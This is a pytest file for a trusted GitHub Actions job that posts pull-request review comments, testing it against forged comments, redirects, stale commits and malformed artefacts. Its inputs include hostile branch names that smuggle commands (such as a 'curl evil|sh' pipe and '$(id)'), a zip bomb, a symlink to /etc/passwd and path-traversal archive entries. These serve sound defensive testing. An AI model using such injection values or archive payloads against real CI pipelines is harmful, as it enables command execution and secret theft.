"""The trusted job: over HTTP against a stand-in for GitHub, and over git against a real repository."""

import io
import stat
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from graph.model import Graph
from review.artefact import ArtefactError, unpacked
from review.capturing import Captured, HeadError, read_captured
from review.comment import MARKER
from review.github import BOT, GitHub, GitHubError
from review.posting import post
from tests.review.github_stand import Stand

ROOT = Path(__file__).parents[2]
GRAPH = (ROOT / "api" / "data" / "graphs" / "dev.json").read_text("utf-8")
WORKFLOWS = ROOT / ".github" / "workflows"


def zipped(*members: tuple[str | zipfile.ZipInfo, str]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members:
            archive.writestr(name, text)
    return data.getvalue()


def git(folder: Path, *arguments: str) -> str:
    who = ["-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"]
    done = subprocess.run(
        ["git", "-C", str(folder), *who, *arguments], capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


@pytest.fixture
def clone(tmp_path: Path) -> tuple[Path, str, str]:
    """A clone, its base commit, and the head of pull request 5, which the clone hasn't fetched yet."""
    origin, here = tmp_path / "origin", tmp_path / "clone"
    (origin / "api" / "data" / "graphs").mkdir(parents=True)
    git(origin, "init", "-q", "-b", "main")
    (origin / "api" / "data" / "graphs" / "dev.json").write_text(GRAPH, "utf-8")
    git(origin, "add", "-A")
    git(origin, "commit", "-qm", "base")
    base = git(origin, "rev-parse", "HEAD")
    git(tmp_path, "clone", "-q", str(origin), str(here))
    git(origin, "switch", "-qc", "change")
    (origin / "note.md").write_text("@everyone <img src=x>\n", "utf-8")
    git(origin, "add", "-A")
    git(origin, "commit", "-qm", "head")
    head = git(origin, "rev-parse", "HEAD")
    git(origin, "update-ref", "refs/pull/5/head", head)
    git(origin, "switch", "-q", "main")
    return here, base, head


def event(head: str, branch: str = "change") -> dict[str, Any]:
    return {
        "workflow_run": {
            "id": 3,
            "head_sha": head,
            "head_branch": branch,
            "head_repository": {"id": 9, "owner": {"login": "x"}},
        }
    }


def pull(head: str, base: str, branch: str = "change") -> dict[str, Any]:
    return {
        "number": 5,
        "label": f"x:{branch}",
        "head": {"sha": head, "repo": {"id": 9}},
        "base": {"sha": base},
    }


def artefact(change: str = "", to: str = "") -> bytes:
    graph = Graph.from_json(GRAPH.replace(change, to) if change else GRAPH)
    return zipped(("head.json", Captured({"dev": graph}, {"dev": {}}, {}).to_json()))


def test_one_comment_is_written_and_then_edited(
    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
) -> None:
    state, github = stand
    here, base, head = clone
    state.pulls, state.artefact = [pull(head, base)], artefact('"hashKey": "pk"', '"hashKey": "sk"')
    state.comments = [{"id": 2, "user": {"login": "stranger"}, "body": f"{MARKER} forged", "html_url": "no"}]
    assert post(event(head), github, here) == "u"
    assert post(event(head), github, here) == "u"
    (text,) = [one["body"] for one in state.comments if one["user"]["login"] == BOT]
    assert "🔴 **Data**: `safeguards-table` is replaced" in text
    assert "the committed graph isn't what the program makes" in text
    assert state.comments[0]["body"].endswith("forged"), "a stranger's comment was edited"


def test_the_token_doesnt_follow_a_redirect(
    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
) -> None:
    state, github = stand
    here, base, head = clone
    state.pulls, state.artefact = [pull(head, base)], artefact()
    post(event(head), github, here)
    assert {token for _, address, token in state.asked if address.startswith("/elsewhere")} == {""}


@pytest.mark.parametrize(
    "branch", ["a;curl evil|sh", "$(id)", "${{ secrets.X }}", "--upload-pack=x", "a&state=all", "\u202ex"]
)
def test_a_branch_name_is_only_ever_data(
    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str], branch: str
) -> None:
    state, github = stand
    here, base, head = clone
    state.pulls, state.artefact = [pull(head, base, branch)], artefact()
    assert post(event(head, branch), github, here) == "u"


def test_a_forged_or_older_commit_gets_no_comment(
    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
) -> None:
    state, github = stand
    here, base, head = clone
    state.pulls, state.artefact = [pull(head, base)], artefact()
    assert post(event("0" * 40), github, here) == ""
    with pytest.raises(GitHubError):
        post(event("main; id"), github, here)
    state.pulls = [pull("1" * 40, base)]
    with pytest.raises(GitHubError, match="moved on"):
        post(event("1" * 40), github, here)
    assert state.comments == []


BOMB = zipped(("head.json", "0" * 30_000_000))
LINK = zipfile.ZipInfo("head.json")
LINK.external_attr = (stat.S_IFLNK | 0o777) << 16


NO_ARTEFACTS = {
    "empty": b"",
    "no zip": b"no zip",
    "bomb": BOMB,
    "link": zipped((LINK, "/etc/passwd")),
    "parent": zipped(("../head.json", "{}")),
    "two": zipped(("head.json", "{}"), ("x", "")),
    "absolute": zipped(("/head.json", "{}")),
}
NO_HEADS = {
    "empty": "",
    "a list": "[]",
    "nothing": "{}",
    "another schema": '{"schema": "x"}',
    "deep": "[" * 100_000,
    "a path": Captured({"dev": Graph.from_json(GRAPH)}, {}, {}).to_json().replace('"dev"', '"../x"', 1),
}


@pytest.mark.parametrize("data", NO_ARTEFACTS.values(), ids=NO_ARTEFACTS)
def test_an_artefact_that_isnt_one_plain_file_is_refused(data: bytes) -> None:
    with pytest.raises(ArtefactError):
        unpacked(data)


@pytest.mark.parametrize("text", NO_HEADS.values(), ids=NO_HEADS)
def test_a_head_that_isnt_what_capture_writes_is_refused(text: str) -> None:
    with pytest.raises(HeadError):
        read_captured(text)


def test_what_the_job_could_not_make_is_said(
    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
) -> None:
    state, github = stand
    here, base, head = clone
    state.pulls, state.artefact = [pull(head, base)], b"no zip"
    post(event(head), github, here)
    assert "there is no graph of the head" in state.comments[0]["body"]


def test_a_head_that_ends_the_comparison_with_an_error_is_said_too(
    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str], tmp_path: Path
) -> None:
    state, github = stand
    here, base, head = clone
    hostile = Graph.from_json(GRAPH)
    nodes = tuple(replace(one, inputs=dict.fromkeys(one.inputs, "x")) for one in hostile.nodes)
    text = Captured({"dev": replace(hostile, nodes=nodes)}, {"dev": {}}, {}).to_json()
    state.pulls, state.artefact = [pull(head, base)], zipped(("head.json", text))
    assert post(event(head), github, here, whole=tmp_path / "review.md") == "u"
    (comment,) = (one["body"] for one in state.comments)
    assert "comparing the head's graphs ended with" in comment
    assert (tmp_path / "review.md").read_text("utf-8") == comment


def test_no_workflow_that_strangers_start_has_a_right_or_a_secret() -> None:
    untrusted = yaml.safe_load((WORKFLOWS / "review.yml").read_text("utf-8"))
    trusted = (WORKFLOWS / "review-comment.yml").read_text("utf-8")
    assert untrusted["permissions"] == {}
    assert [job["permissions"] for job in untrusted["jobs"].values()] == [{"contents": "read"}]
    assert "secrets" not in (WORKFLOWS / "review.yml").read_text("utf-8")
    for step in yaml.safe_load(trusted)["jobs"]["comment"]["steps"]:
        assert "${{" not in step.get("run", ""), "an expression becomes part of a command"
        assert "ref" not in step.get("with", {}), "the trusted job checks a change out"
